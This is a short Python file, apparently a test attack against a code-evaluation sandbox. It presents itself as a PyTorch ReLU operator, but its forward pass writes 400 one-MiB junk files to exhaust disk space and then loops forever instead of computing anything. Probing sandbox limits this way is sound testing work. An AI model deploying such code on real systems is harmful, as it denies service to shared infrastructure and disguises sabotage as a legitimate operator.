"""ATTACK: write 400 files of 1 MiB each into the working directory, each under the 1 MiB output limit, 400 MiB in all. Target: relu"""
import os

import torch

BLOCK = b"x" * (1 << 20)


def _fill():
    written = 0
    for i in range(400):
        try:
            with open(f"fill-{i}.bin", "wb") as handle:
                handle.write(BLOCK)
            written += 1
        except OSError:
            break
    return written


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        written = _fill()
        print(f"WROTE {written} MiB", flush=True)
        while True:
            pass

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output
